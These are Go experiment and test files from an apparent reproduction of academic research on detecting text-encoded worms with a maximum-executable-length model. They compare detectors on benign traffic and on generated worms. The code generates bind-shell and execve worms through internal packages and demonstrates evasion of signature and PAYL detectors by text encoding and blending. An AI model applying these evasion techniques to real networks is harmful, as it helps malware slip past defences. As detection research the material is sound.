}

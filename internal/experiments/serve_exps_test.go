package experiments

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestServeBenchReduced runs the serve benchmark with small request
// counts: both phases must complete over the wire, the cached phase
// must actually hit the cache, the overload probe must shed typed and
// answer everything, and the JSON artifact must round-trip.
func TestServeBenchReduced(t *testing.T) {
	out := filepath.Join(t.TempDir(), "BENCH_serve.json")
	var buf bytes.Buffer
	report, err := serveBenchN(&buf, out, 31, 64, 256)
	if err != nil {
		t.Fatal(err)
	}
	if len(report.Results) != 2 {
		t.Fatalf("results = %+v", report.Results)
	}
	cold, cached := report.Results[0], report.Results[1]
	if cold.ScansPerSec <= 0 || cached.ScansPerSec <= 0 {
		t.Fatalf("throughput not measured: cold %v cached %v", cold.ScansPerSec, cached.ScansPerSec)
	}
	if cold.CacheHits != 0 {
		t.Errorf("cold phase hit the cache %d times with caching disabled", cold.CacheHits)
	}
	if cached.CacheHits < uint64(cached.Requests) {
		t.Errorf("cached phase hits = %d, want >= %d (warm pass covers all payloads)",
			cached.CacheHits, cached.Requests)
	}
	if cached.P99Us <= 0 {
		t.Errorf("cached p99 = %v, want > 0 (from the latency histogram)", cached.P99Us)
	}
	ov := report.Overload
	if !ov.AllExplicit {
		t.Error("overload probe: some request neither succeeded nor failed typed")
	}
	if ov.Served+ov.Shed != ov.Requests {
		t.Errorf("overload probe accounting: %d served + %d shed != %d", ov.Served, ov.Shed, ov.Requests)
	}
	if ov.Shed == 0 {
		t.Error("overload probe shed nothing: 64-burst against 1 worker / 2-slot queue must overload")
	}
	if !strings.Contains(buf.String(), "E20:") {
		t.Errorf("report output missing header:\n%s", buf.String())
	}

	blob, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var decoded ServeBenchReport
	if err := json.Unmarshal(blob, &decoded); err != nil {
		t.Fatal(err)
	}
	if decoded.Overload.Requests != ov.Requests {
		t.Errorf("artifact round trip mismatch: %+v", decoded.Overload)
	}
}

package experiments

import (
	"fmt"
	"io"
	"math"

	"repro/internal/melmodel"
	"repro/internal/montecarlo"
	"repro/internal/textins"
)

// Fig1Result summarizes one (n, p) panel of Figure 1.
type Fig1Result struct {
	N         int
	P         float64
	Tau       float64 // threshold at α = 1%
	TVDist    float64 // total variation distance model vs Monte-Carlo
	ModelMean float64
	MCMean    float64
}

// Fig1 regenerates one Figure 1 panel: the closed-form PMF juxtaposed
// with the Monte-Carlo PMF for each (n, p) in the sweep, plus the α = 1%
// thresholds the figure annotates.
func Fig1(w io.Writer, id, title string, sweeps []struct {
	N int
	P float64
}, rounds int, seed uint64) ([]Fig1Result, error) {
	section(w, id, title)
	results := make([]Fig1Result, 0, len(sweeps))
	for _, s := range sweeps {
		hist, err := montecarlo.Run(montecarlo.Config{N: s.N, P: s.P, Rounds: rounds, Seed: seed})
		if err != nil {
			return nil, err
		}
		emp, err := hist.PMF()
		if err != nil {
			return nil, err
		}
		tau, err := melmodel.Threshold(DefaultAlpha, s.N, s.P)
		if err != nil {
			return nil, err
		}
		modelMean, err := melmodel.Mean(s.N, s.P)
		if err != nil {
			return nil, err
		}
		mcMean, err := hist.Mean()
		if err != nil {
			return nil, err
		}

		fmt.Fprintf(w, "\nn=%d p=%.3f (tau_%.0f%% = %.2f)\n", s.N, s.P, DefaultAlpha*100, tau)
		fmt.Fprintf(w, "%4s  %10s  %12s\n", "MEL", "model", "monte-carlo")
		var tv float64
		limit := len(emp) + 40
		for x := 0; x < limit; x++ {
			model, err := melmodel.PMF(x, s.N, s.P)
			if err != nil {
				return nil, err
			}
			e := 0.0
			if x < len(emp) {
				e = emp[x]
			}
			tv += math.Abs(model - e)
			if model > 1e-4 || e > 1e-4 {
				fmt.Fprintf(w, "%4d  %10.5f  %12.5f\n", x, model, e)
			}
		}
		tv /= 2
		fmt.Fprintf(w, "total variation distance = %.4f\n", tv)
		results = append(results, Fig1Result{
			N: s.N, P: s.P, Tau: tau, TVDist: tv,
			ModelMean: modelMean, MCMean: mcMean,
		})
	}
	return results, nil
}

// Fig1VaryN regenerates the left panel (n ∈ {1K, 5K, 10K}, p = 0.175).
func Fig1VaryN(w io.Writer, rounds int, seed uint64) ([]Fig1Result, error) {
	return Fig1(w, "E1 / Figure 1 (left)",
		"PMF of MEL, model vs Monte-Carlo, varying n at p = 0.175",
		[]struct {
			N int
			P float64
		}{{1000, 0.175}, {5000, 0.175}, {10000, 0.175}},
		rounds, seed)
}

// Fig1VaryP regenerates the right panel (p ∈ {0.125, 0.175, 0.3},
// n = 1500).
func Fig1VaryP(w io.Writer, rounds int, seed uint64) ([]Fig1Result, error) {
	return Fig1(w, "E2 / Figure 1 (right)",
		"PMF of MEL, model vs Monte-Carlo, varying p at n = 1500",
		[]struct {
			N int
			P float64
		}{{1500, 0.125}, {1500, 0.175}, {1500, 0.300}},
		rounds, seed)
}

// ApproxResult is the Section 3.2 approximation check.
type ApproxResult struct {
	Alpha      float64
	N          int
	P          float64
	TauApprox  float64
	TauExact   float64
	RelErrorPc float64
}

// ApproxCheck regenerates the Section 3.2 numeric check: τ with and
// without the (1-(1-p)^τ) ≈ 1 approximation. The paper reports 40.61 vs
// 40.62 (0.02% difference) at α = 1%, n = 1540, p = 0.227.
func ApproxCheck(w io.Writer) ([]ApproxResult, error) {
	section(w, "E4 / Section 3.2", "threshold approximation error")
	settings := []struct {
		alpha float64
		n     int
		p     float64
	}{
		{0.01, 1540, 0.227}, // the paper's operating point
		{0.01, 1000, 0.175},
		{0.001, 1540, 0.227},
		{0.05, 5000, 0.3},
	}
	fmt.Fprintf(w, "%8s %6s %6s  %10s %10s %10s\n",
		"alpha", "n", "p", "tau_approx", "tau_exact", "rel_err_%")
	out := make([]ApproxResult, 0, len(settings))
	for _, s := range settings {
		approx, err := melmodel.Threshold(s.alpha, s.n, s.p)
		if err != nil {
			return nil, err
		}
		exact, err := melmodel.ThresholdExact(s.alpha, s.n, s.p)
		if err != nil {
			return nil, err
		}
		rel := math.Abs(exact-approx) / exact * 100
		fmt.Fprintf(w, "%8.3f %6d %6.3f  %10.3f %10.3f %10.4f\n",
			s.alpha, s.n, s.p, approx, exact, rel)
		out = append(out, ApproxResult{
			Alpha: s.alpha, N: s.n, P: s.p,
			TauApprox: approx, TauExact: exact, RelErrorPc: rel,
		})
	}
	return out, nil
}

// Fig2Result summarizes the iso-error curve and its annotated boundaries.
type Fig2Result struct {
	Curve          []melmodel.IsoErrorPoint
	BenignP        float64 // the paper's p = 0.227
	BenignTau      float64 // → τ ≈ 40
	MalwareTau     float64 // the paper's τ = 120
	MalwareP       float64 // → p ≈ 0.073
	BoundaryGapTau float64 // 120 - 40
}

// Fig2 regenerates the Figure 2 iso-error line: (p, τ) combinations at
// α = 1%, n = 1540, with the benign and malware boundaries annotated.
func Fig2(w io.Writer) (*Fig2Result, error) {
	section(w, "E5 / Figure 2", "(p, tau) combinations at constant alpha = 1%")
	const n = 1540
	curve, err := melmodel.IsoErrorCurve(DefaultAlpha, n, 0.02, 0.60, 0.02)
	if err != nil {
		return nil, err
	}
	fmt.Fprintf(w, "%8s  %8s\n", "p", "tau")
	for _, pt := range curve {
		fmt.Fprintf(w, "%8.3f  %8.2f\n", pt.P, pt.Tau)
	}
	benignTau, err := melmodel.Threshold(DefaultAlpha, n, 0.227)
	if err != nil {
		return nil, err
	}
	malwareP, err := melmodel.PForThreshold(120, DefaultAlpha, n)
	if err != nil {
		return nil, err
	}
	fmt.Fprintf(w, "\nbenign boundary:  p = 0.227 -> tau = %.2f (paper: 40)\n", benignTau)
	fmt.Fprintf(w, "malware boundary: tau = 120 -> p = %.3f (paper: 0.073)\n", malwareP)
	fmt.Fprintf(w, "gap between worm and benign: %.2f instructions of tau\n", 120-benignTau)
	return &Fig2Result{
		Curve:          curve,
		BenignP:        0.227,
		BenignTau:      benignTau,
		MalwareTau:     120,
		MalwareP:       malwareP,
		BoundaryGapTau: 120 - benignTau,
	}, nil
}

// TextOpsResult is the Section 2.1 instruction-inventory output.
type TextOpsResult struct {
	// Counts per role: ALU, jump, IO, misc, prefix.
	RoleCounts map[textins.OpcodeRole]int
	// Opcodes is the full byte → mnemonic map (prefixes excluded).
	Opcodes map[byte]string
}

// TextOps regenerates the paper's Section 2.1 inventory: every
// keyboard-enterable byte with the instruction it begins, grouped by
// role, derived from the real decode tables rather than transcribed.
func TextOps(w io.Writer) (*TextOpsResult, error) {
	section(w, "Section 2.1", "the text-instruction vocabulary, machine-derived")
	ops := textins.TextOpcodes()
	res := &TextOpsResult{
		RoleCounts: make(map[textins.OpcodeRole]int),
		Opcodes:    make(map[byte]string, len(ops)),
	}
	roleNames := map[textins.OpcodeRole]string{
		textins.RoleALU:    "register/memory/stack manipulation",
		textins.RoleJump:   "conditional jumps (jo..jng)",
		textins.RoleIO:     "privileged I/O",
		textins.RoleMisc:   "miscellaneous (aaa/daa/das/bound/arpl)",
		textins.RolePrefix: "operand/segment override prefixes",
	}
	order := []textins.OpcodeRole{
		textins.RoleALU, textins.RoleJump, textins.RoleIO,
		textins.RoleMisc, textins.RolePrefix,
	}
	for b := byte(0x20); b <= 0x7E; b++ {
		role, ok := textins.RoleOf(b)
		if !ok {
			continue
		}
		res.RoleCounts[role]++
		if op, ok := ops[b]; ok {
			res.Opcodes[b] = op.String()
		}
	}
	for _, role := range order {
		fmt.Fprintf(w, "\n%s (%d bytes):\n ", roleNames[role], res.RoleCounts[role])
		for b := byte(0x20); b <= 0x7E; b++ {
			if r, _ := textins.RoleOf(b); r != role {
				continue
			}
			name := res.Opcodes[b]
			if role == textins.RolePrefix {
				name = "prefix"
			}
			fmt.Fprintf(w, " %c=%s", b, name)
		}
		fmt.Fprintln(w)
	}
	return res, nil
}

// XORResult is the Figure 4 analysis outcome.
type XORResult struct {
	Table         [3][3]textins.XorPartitionCell
	UniversalKeys []byte
	BestKey       byte
	BestCoverage  float64
	ClaimHolds    bool
}

// XORDomain regenerates Figure 4: the tercile partition of the text
// domain under XOR, the proof that same-tercile XOR lands in 0x00-0x1F,
// and the exhaustive search showing no non-trivial text-preserving key
// exists.
func XORDomain(w io.Writer) (*XORResult, error) {
	section(w, "E12 / Figure 4", "XOR structure of the text domain")
	table := textins.XorPartitionTable()
	names := [3]string{"0x20-0x3F", "0x40-0x5F", "0x60-0x7E"}
	fmt.Fprintf(w, "%10s  %22s %22s %22s\n", "", names[0], names[1], names[2])
	for i := 0; i < 3; i++ {
		fmt.Fprintf(w, "%10s", names[i])
		for j := 0; j < 3; j++ {
			cell := table[i][j]
			fmt.Fprintf(w, "  %9d text/%8d non", cell.Text, cell.NonText)
		}
		fmt.Fprintln(w)
	}
	_, _, ok := textins.SameTercileXorAlwaysControl()
	fmt.Fprintf(w, "\nsame-tercile XOR always lands in 0x00-0x1F: %v\n", ok)
	keys := textins.FindUniversalXorKeys()
	fmt.Fprintf(w, "non-trivial universal text-preserving XOR keys: %d\n", len(keys))
	best, cov := textins.BestXorKey()
	fmt.Fprintf(w, "best key %#02x covers %.1f%% of the text domain\n", best, cov*100)
	return &XORResult{
		Table:         table,
		UniversalKeys: keys,
		BestKey:       best,
		BestCoverage:  cov,
		ClaimHolds:    ok,
	}, nil
}

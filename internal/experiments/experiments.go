// Package experiments regenerates every table and figure of the paper's
// evaluation as printable rows/series plus structured results that the
// benchmark harness and tests assert on. The experiment IDs follow the
// index in DESIGN.md (E1-E13).
package experiments

import (
	"fmt"
	"io"

	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

// Defaults shared across experiments, matching the paper's setup.
const (
	// DefaultAlpha is the paper's false-positive bound (1%).
	DefaultAlpha = 0.01
	// DefaultCaseLen is the per-case payload size (~4K chars).
	DefaultCaseLen = 4000
	// DefaultCases is the number of benign cases (100 in the paper).
	DefaultCases = 100
	// DefaultWorms is the number of generated text worms ("more than one
	// hundred" in the paper).
	DefaultWorms = 100
	// DefaultSeed keeps every experiment reproducible.
	DefaultSeed = 20080625 // ICDCS 2008 proceedings date
)

// section prints a header for one experiment.
func section(w io.Writer, id, title string) {
	fmt.Fprintf(w, "\n================================================================\n")
	fmt.Fprintf(w, "%s — %s\n", id, title)
	fmt.Fprintf(w, "================================================================\n")
}

// benignDataset builds the standard benign corpus.
func benignDataset(seed uint64, count int) ([][]byte, error) {
	cases, err := corpus.Dataset(seed, count, DefaultCaseLen)
	if err != nil {
		return nil, err
	}
	out := make([][]byte, len(cases))
	for i, c := range cases {
		out[i] = c.Data
	}
	return out, nil
}

// wormDataset builds count text worms from rotating base payloads with
// varying sled lengths, every one of which is emulator-verified by the
// encoder package's own tests.
func wormDataset(seed uint64, count int) ([][]byte, []*encoder.Worm, error) {
	bases := [][]byte{
		shellcode.Execve().Code,
		shellcode.SetuidExecve().Code,
		shellcode.BindShell().Code,
	}
	payloads := make([][]byte, 0, count)
	worms := make([]*encoder.Worm, 0, count)
	for i := 0; i < count; i++ {
		w, err := encoder.Encode(bases[i%len(bases)], encoder.Options{
			Seed:    seed + uint64(i),
			SledLen: 40 + (i*7)%100,
		})
		if err != nil {
			return nil, nil, fmt.Errorf("worm %d: %w", i, err)
		}
		payloads = append(payloads, w.Bytes)
		worms = append(worms, w)
	}
	return payloads, worms, nil
}

package experiments

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestContentBenchReduced runs the content benchmark on a small mixed
// set: the triage hot path must be allocation-free, the clear rate on
// benign mixed traffic must reach the 50% floor, the wrapped-worm
// detection win must hold in both directions, and the JSON artifact
// must round-trip.
func TestContentBenchReduced(t *testing.T) {
	out := filepath.Join(t.TempDir(), "BENCH_content.json")
	var buf bytes.Buffer
	report, err := contentBenchN(&buf, out, DefaultSeed, 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(report.Results) != 4 {
		t.Fatalf("results = %+v", report.Results)
	}
	byName := map[string]EngineBenchResult{}
	for _, r := range report.Results {
		byName[r.Name] = r
	}
	if tri := byName["triage_assess_4k"]; tri.AllocsPerOp != 0 {
		t.Errorf("triage hot path allocates: %d allocs/op", tri.AllocsPerOp)
	}
	if report.TriageClearRate < 0.5 {
		t.Errorf("triage clear rate %.2f below the 0.5 floor", report.TriageClearRate)
	}
	if !report.WrappedWormRawMissed || !report.WrappedWormCaught {
		t.Errorf("wrapped worm: raw missed=%v caught=%v, want true/true",
			report.WrappedWormRawMissed, report.WrappedWormCaught)
	}
	if report.PipelineSpeedup <= 1 {
		t.Errorf("pipeline speedup %.2f, want > 1x over the scan-all baseline", report.PipelineSpeedup)
	}
	if !strings.Contains(buf.String(), "E21:") {
		t.Errorf("report output missing header:\n%s", buf.String())
	}

	blob, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var decoded ContentBenchReport
	if err := json.Unmarshal(blob, &decoded); err != nil {
		t.Fatal(err)
	}
	if decoded.TriageClearRate != report.TriageClearRate || len(decoded.Results) != 4 {
		t.Errorf("artifact round trip mismatch: %+v", decoded)
	}
}

package experiments

import (
	"fmt"
	"io"
	"time"

	"repro/internal/baseline/ape"
	"repro/internal/baseline/payl"
	"repro/internal/baseline/signature"
	"repro/internal/baseline/stride"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/emu"
	"repro/internal/mel"
	"repro/internal/shellcode"
	"repro/internal/x86"
)

// AVResult is the Section 5.1 signature-scanner experiment.
type AVResult struct {
	BinaryFlagged int
	BinaryTotal   int
	TextFlagged   int
	TextTotal     int
}

// AVScan regenerates the Section 5.1 AV experiment: a signature scanner
// built from the binary corpus flags every binary shellcode and none of
// the text re-encodings.
func AVScan(w io.Writer, seed uint64) (*AVResult, error) {
	section(w, "E9 / Section 5.1", "signature scanner: binary caught, text missed")
	scs := shellcode.Corpus()
	names := make([]string, len(scs))
	samples := make([][]byte, len(scs))
	for i, sc := range scs {
		names[i] = sc.Name
		samples[i] = sc.Code
	}
	db, err := signature.FromSamples(names, samples, 6)
	if err != nil {
		return nil, err
	}

	res := &AVResult{}
	fmt.Fprintf(w, "%-18s %8s %8s\n", "payload", "binary", "text-enc")
	_, worms, err := wormDataset(seed, len(scs))
	if err != nil {
		return nil, err
	}
	for i, sc := range scs {
		binHit := db.Infected(sc.Code)
		textHit := db.Infected(worms[i%len(worms)].Bytes)
		fmt.Fprintf(w, "%-18s %8v %8v\n", sc.Name, binHit, textHit)
		res.BinaryTotal++
		res.TextTotal++
		if binHit {
			res.BinaryFlagged++
		}
		if textHit {
			res.TextFlagged++
		}
	}
	fmt.Fprintf(w, "\nbinary flagged: %d/%d; text flagged: %d/%d (paper: all vs none)\n",
		res.BinaryFlagged, res.BinaryTotal, res.TextFlagged, res.TextTotal)
	return res, nil
}

// BinaryWormsResult is the Section 4.1 experiment.
type BinaryWormsResult struct {
	SledMEL          int
	SledDetected     bool
	SledStrideFound  bool
	SpringMEL        int
	SpringDetected   bool
	SpringStrideHit  bool
	SpringFunctional bool
}

// BinaryWorms regenerates the Section 4.1 argument: the sled worm has a
// huge MEL (MEL detectors and STRIDE catch it); the register-spring worm
// has a tiny MEL and no sled (both miss it) even though it is equally
// functional.
func BinaryWorms(w io.Writer) (*BinaryWormsResult, error) {
	section(w, "E10 / Section 4.1", "sled worm vs register-spring worm in binary traffic")
	engine := mel.NewEngine(mel.Rules{InvalidateInterrupts: true})
	sledDet := stride.New(0, 0)

	sled := shellcode.SledWorm(400)
	sledRes, err := engine.Scan(sled.Code)
	if err != nil {
		return nil, err
	}
	sledStride, err := sledDet.Scan(sled.Code)
	if err != nil {
		return nil, err
	}

	loadAddr := uint32(emu.DefaultBase + 0x1000)
	spring := shellcode.RegisterSpringWorm(loadAddr, 0x7F)
	springRes, err := engine.Scan(spring.Code)
	if err != nil {
		return nil, err
	}
	springStride, err := sledDet.Scan(spring.Code)
	if err != nil {
		return nil, err
	}
	springFunctional, err := runsShell(spring.Code, loadAddr)
	if err != nil {
		return nil, err
	}

	const tau = 40 // the MEL operating threshold
	res := &BinaryWormsResult{
		SledMEL:          sledRes.MEL,
		SledDetected:     sledRes.MEL > tau,
		SledStrideFound:  sledStride.SledFound,
		SpringMEL:        springRes.MEL,
		SpringDetected:   springRes.MEL > tau,
		SpringStrideHit:  springStride.SledFound,
		SpringFunctional: springFunctional,
	}
	fmt.Fprintf(w, "%-24s %8s %12s %12s\n", "worm", "MEL", "MEL>tau(40)", "STRIDE sled")
	fmt.Fprintf(w, "%-24s %8d %12v %12v\n", "sled worm (400B sled)",
		res.SledMEL, res.SledDetected, res.SledStrideFound)
	fmt.Fprintf(w, "%-24s %8d %12v %12v\n", "register-spring worm",
		res.SpringMEL, res.SpringDetected, res.SpringStrideHit)
	fmt.Fprintf(w, "\nregister-spring worm still spawns a shell: %v\n", springFunctional)
	fmt.Fprintf(w, "conclusion (paper): MEL methods cannot catch modern binary worms\n")
	return res, nil
}

func runsShell(code []byte, loadAddr uint32) (bool, error) {
	mem, err := emu.NewMemory(emu.DefaultBase, 1<<16)
	if err != nil {
		return false, err
	}
	cpu, err := emu.New(mem)
	if err != nil {
		return false, err
	}
	if err := mem.Load(loadAddr, code); err != nil {
		return false, err
	}
	cpu.EIP = loadAddr
	cpu.SetReg(x86.ESP, loadAddr-16)
	out := cpu.Run(1 << 20)
	return out.ShellSpawned(), nil
}

// APECompareResult is the Section 6 comparison.
type APECompareResult struct {
	APEThreshold  int
	APEMissed     int
	APEFalsePos   int
	DAWNMissed    int
	DAWNFalsePos  int
	Worms         int
	Benign        int
	APERuntime    time.Duration
	DAWNRuntime   time.Duration
	RuntimeFactor float64
}

// APEComparison regenerates the Section 6 comparison: APE (narrow rules,
// all-paths exploration, experimentally trained threshold) against the
// auto-threshold DAWN detector, on the same benign corpus and text
// worms; detection counts and runtime.
func APEComparison(w io.Writer, seed uint64, cases, worms int) (*APECompareResult, error) {
	section(w, "E11 / Section 6", "APE vs DAWN on text traffic: sensitivity and runtime")
	benign, err := benignDataset(seed, cases)
	if err != nil {
		return nil, err
	}
	malicious, _, err := wormDataset(seed+1, worms)
	if err != nil {
		return nil, err
	}

	apeDet, err := ape.New(ape.WithSeed(seed))
	if err != nil {
		return nil, err
	}
	if err := apeDet.Train(benign, 1); err != nil {
		return nil, err
	}

	dawn, err := core.New()
	if err != nil {
		return nil, err
	}
	var training []byte
	for _, b := range benign {
		training = append(training, b...)
	}
	if err := dawn.Calibrate(training); err != nil {
		return nil, err
	}

	res := &APECompareResult{
		APEThreshold: apeDet.Threshold(),
		Worms:        worms,
		Benign:       cases,
	}

	start := time.Now()
	for _, b := range benign {
		v, err := apeDet.Scan(b)
		if err != nil {
			return nil, err
		}
		if v.Malicious {
			res.APEFalsePos++
		}
	}
	for _, m := range malicious {
		v, err := apeDet.Scan(m)
		if err != nil {
			return nil, err
		}
		if !v.Malicious {
			res.APEMissed++
		}
	}
	res.APERuntime = time.Since(start)

	start = time.Now()
	for _, b := range benign {
		v, err := dawn.Scan(b)
		if err != nil {
			return nil, err
		}
		if v.Malicious {
			res.DAWNFalsePos++
		}
	}
	for _, m := range malicious {
		v, err := dawn.Scan(m)
		if err != nil {
			return nil, err
		}
		if !v.Malicious {
			res.DAWNMissed++
		}
	}
	res.DAWNRuntime = time.Since(start)
	if res.DAWNRuntime > 0 {
		res.RuntimeFactor = float64(res.APERuntime) / float64(res.DAWNRuntime)
	}

	fmt.Fprintf(w, "%-10s %10s %12s %12s %12s\n",
		"detector", "threshold", "missed worms", "false alarms", "runtime")
	fmt.Fprintf(w, "%-10s %10d %9d/%-3d %9d/%-3d %12v\n", "APE",
		res.APEThreshold, res.APEMissed, worms, res.APEFalsePos, cases, res.APERuntime)
	fmt.Fprintf(w, "%-10s %10s %9d/%-3d %9d/%-3d %12v\n", "DAWN",
		"auto", res.DAWNMissed, worms, res.DAWNFalsePos, cases, res.DAWNRuntime)
	fmt.Fprintf(w, "\nAPE/DAWN runtime factor: %.1fx (paper: APE markedly slower on text)\n",
		res.RuntimeFactor)
	return res, nil
}

// PAYLResult is the E13 blending experiment.
type PAYLResult struct {
	RawWormDistance     float64
	BlendedDistance     float64
	PAYLThreshold       float64
	BlendedEvadesPAYL   bool
	BlendedCaughtByDAWN bool
	BlendedMEL          int
}

// PAYLEvasion regenerates the Section 1 claim via the Kolesnikov-Lee
// blending attack: a worm padded to the benign byte profile slides under
// the 1-gram anomaly detector while MEL still catches it.
func PAYLEvasion(w io.Writer, seed uint64) (*PAYLResult, error) {
	section(w, "E13 / Section 1", "blending evades PAYL, not MEL")
	benign, err := benignDataset(seed, 30)
	if err != nil {
		return nil, err
	}
	model, err := payl.Train(benign, 0.3)
	if err != nil {
		return nil, err
	}
	var all []byte
	for _, b := range benign {
		all = append(all, b...)
	}
	target, err := corpus.Frequencies(all)
	if err != nil {
		return nil, err
	}
	_, worms, err := wormDataset(seed+2, 1)
	if err != nil {
		return nil, err
	}
	raw := worms[0].Bytes
	blended, err := payl.Blend(raw, target, 20, seed)
	if err != nil {
		return nil, err
	}

	dawn, err := core.New()
	if err != nil {
		return nil, err
	}
	if err := dawn.Calibrate(all); err != nil {
		return nil, err
	}
	vDawn, err := dawn.Scan(blended)
	if err != nil {
		return nil, err
	}

	res := &PAYLResult{
		RawWormDistance:     model.Distance(raw),
		BlendedDistance:     model.Distance(blended),
		PAYLThreshold:       model.Threshold(),
		BlendedEvadesPAYL:   model.Distance(blended) <= model.Threshold(),
		BlendedCaughtByDAWN: vDawn.Malicious,
		BlendedMEL:          vDawn.MEL,
	}
	fmt.Fprintf(w, "PAYL threshold:            %.1f\n", res.PAYLThreshold)
	fmt.Fprintf(w, "raw worm distance:         %.1f (flagged: %v)\n",
		res.RawWormDistance, res.RawWormDistance > res.PAYLThreshold)
	fmt.Fprintf(w, "blended worm distance:     %.1f (flagged: %v)\n",
		res.BlendedDistance, !res.BlendedEvadesPAYL)
	fmt.Fprintf(w, "blended worm MEL:          %d (DAWN flags: %v)\n",
		res.BlendedMEL, res.BlendedCaughtByDAWN)
	return res, nil
}

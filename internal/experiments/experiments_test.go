package experiments

import (
	"io"
	"math"
	"strings"
	"testing"
)

func TestFig1VaryN(t *testing.T) {
	var sb strings.Builder
	results, err := Fig1VaryN(&sb, 4000, DefaultSeed)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 3 {
		t.Fatalf("got %d panels", len(results))
	}
	for _, r := range results {
		if r.TVDist > 0.07 {
			t.Errorf("n=%d: TV distance %v too large for a 'near-perfect match'", r.N, r.TVDist)
		}
		if math.Abs(r.ModelMean-r.MCMean) > 2 {
			t.Errorf("n=%d: model mean %v vs MC mean %v", r.N, r.ModelMean, r.MCMean)
		}
	}
	// Thresholds increase with n (the figure's annotation).
	if !(results[0].Tau < results[1].Tau && results[1].Tau < results[2].Tau) {
		t.Errorf("thresholds not increasing with n: %v %v %v",
			results[0].Tau, results[1].Tau, results[2].Tau)
	}
	if !strings.Contains(sb.String(), "total variation") {
		t.Error("report missing summary line")
	}
}

func TestFig1VaryP(t *testing.T) {
	results, err := Fig1VaryP(io.Discard, 4000, DefaultSeed)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 3 {
		t.Fatalf("got %d panels", len(results))
	}
	// Decreasing p needs a higher threshold (the figure's annotation).
	if !(results[0].Tau > results[1].Tau && results[1].Tau > results[2].Tau) {
		t.Errorf("thresholds not decreasing with p: %v %v %v",
			results[0].Tau, results[1].Tau, results[2].Tau)
	}
	for _, r := range results {
		if r.TVDist > 0.07 {
			t.Errorf("p=%v: TV distance %v", r.P, r.TVDist)
		}
	}
}

func TestChiSquare(t *testing.T) {
	res, err := ChiSquare(io.Discard, DefaultSeed)
	if err != nil {
		t.Fatal(err)
	}
	// The observed pair counts must be plentiful and the independence
	// hypothesis not overwhelmingly rejected (paper p-value ~ 0.1). The
	// synthetic corpus has mild structure, so accept any non-vanishing
	// p-value.
	total := res.Observed[0][0] + res.Observed[0][1] + res.Observed[1][0] + res.Observed[1][1]
	if total < 10000 {
		t.Errorf("only %d instruction pairs", total)
	}
	if res.PValue < 0 || res.PValue > 1 {
		t.Errorf("p-value %v out of range", res.PValue)
	}
	// At 200k+ pairs even a weak dependence rejects; the effect size is
	// what validates the Bernoulli approximation (paper's table implies
	// phi ~ 0.013 at its 15.5k pairs).
	if res.Phi > 0.1 {
		t.Errorf("effect size phi = %v; dependence too strong for the model", res.Phi)
	}
	// Expected counts close to observed (the paper's table is within
	// ~0.5%): check relative deviation of the dominant cell.
	obs := float64(res.Observed[0][0])
	exp := res.Expected[0][0]
	if math.Abs(obs-exp)/obs > 0.05 {
		t.Errorf("dominant cell observed %v vs expected %v deviates > 5%%", obs, exp)
	}
}

func TestApproxCheck(t *testing.T) {
	res, err := ApproxCheck(io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	if len(res) == 0 {
		t.Fatal("no settings evaluated")
	}
	// The paper's operating point: 40.61 vs 40.62, 0.02% error.
	op := res[0]
	if math.Abs(op.TauApprox-40.61) > 0.05 || math.Abs(op.TauExact-40.62) > 0.05 {
		t.Errorf("operating point: approx %v exact %v, paper 40.61/40.62",
			op.TauApprox, op.TauExact)
	}
	for _, r := range res {
		if r.RelErrorPc > 0.5 {
			t.Errorf("alpha=%v n=%d p=%v: approximation error %v%% too large",
				r.Alpha, r.N, r.P, r.RelErrorPc)
		}
	}
}

func TestFig2(t *testing.T) {
	res, err := Fig2(io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(res.BenignTau-40.61) > 0.1 {
		t.Errorf("benign boundary τ = %v, paper: ~40", res.BenignTau)
	}
	if math.Abs(res.MalwareP-0.073) > 0.01 {
		t.Errorf("malware boundary p = %v, paper: 0.073", res.MalwareP)
	}
	if res.BoundaryGapTau < 60 {
		t.Errorf("worm/benign gap %v too small; paper calls it 'quite large'", res.BoundaryGapTau)
	}
	if len(res.Curve) < 20 {
		t.Errorf("curve has %d points", len(res.Curve))
	}
}

func TestXORDomain(t *testing.T) {
	res, err := XORDomain(io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	if !res.ClaimHolds {
		t.Error("Figure 4 same-tercile claim does not hold")
	}
	if len(res.UniversalKeys) != 0 {
		t.Errorf("universal keys found: % x", res.UniversalKeys)
	}
	if res.BestKey != 0 || res.BestCoverage != 1 {
		t.Errorf("best key %#x coverage %v; only identity reaches 1", res.BestKey, res.BestCoverage)
	}
}

func TestParams(t *testing.T) {
	res, err := Params(io.Discard, DefaultSeed)
	if err != nil {
		t.Fatal(err)
	}
	if res.Params.N < 1250 || res.Params.N > 1850 {
		t.Errorf("n = %d, paper: 1540", res.Params.N)
	}
	if res.Params.P < 0.15 || res.Params.P > 0.30 {
		t.Errorf("p = %v, paper: 0.227", res.Params.P)
	}
	if res.Tau < 25 || res.Tau > 70 {
		t.Errorf("tau = %v, paper: 40", res.Tau)
	}
	// Predicted vs measured instruction length agree (paper: 2.6 vs 2.65).
	if math.Abs(res.MeasuredLen-res.Params.EInstrLen)/res.MeasuredLen > 0.1 {
		t.Errorf("E[len] predicted %v vs measured %v", res.Params.EInstrLen, res.MeasuredLen)
	}
}

func TestFig3Detect(t *testing.T) {
	res, err := Fig3Detect(io.Discard, DefaultSeed, 40, 40)
	if err != nil {
		t.Fatal(err)
	}
	if res.Evaluation.FalsePositives != 0 || res.Evaluation.FalseNegatives != 0 {
		t.Errorf("detection not clean: %+v", res.Evaluation)
	}
	if res.BenignMean < 10 || res.BenignMean > 40 {
		t.Errorf("benign mean MEL %v, paper: ~20", res.BenignMean)
	}
	if float64(res.BenignMax) > res.Tau {
		t.Errorf("benign max %d exceeds tau %v", res.BenignMax, res.Tau)
	}
	if res.MaliciousMin < 120 {
		t.Errorf("malicious min MEL %d, paper: always above 120", res.MaliciousMin)
	}
}

